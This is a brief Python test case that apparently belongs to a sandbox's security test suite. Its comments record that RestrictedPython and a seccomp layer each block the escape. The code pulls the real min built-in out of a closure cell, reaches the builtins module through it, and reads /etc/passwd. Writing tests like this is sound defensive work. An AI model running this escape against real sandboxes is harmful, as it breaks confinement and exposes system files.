# attack: function globals
# stops: restrictedpython: "__closure__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# the closure cells of the min() built-in hold Python's real min, whose __self__ is builtins
real_min = min.__closure__[0].cell_contents
module = real_min.__self__
print("ESCAPED", len(module.open("/etc/passwd").read()))
